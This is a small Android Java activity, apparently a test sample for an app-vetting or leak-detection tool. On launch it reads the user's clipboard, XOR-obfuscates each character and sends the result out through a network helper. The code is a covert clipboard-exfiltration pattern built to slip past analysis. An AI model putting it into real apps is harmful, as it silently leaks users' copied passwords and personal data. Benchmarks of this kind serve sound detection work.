package org.apkvet.clip.through_characters;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        char[] letters = copied().toCharArray();
        StringBuilder whole = new StringBuilder();
        for (int i = 0; i < letters.length; i++) {
            whole.append((char) (letters[i] ^ 42));
        }
        Net.send(whole.toString());
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
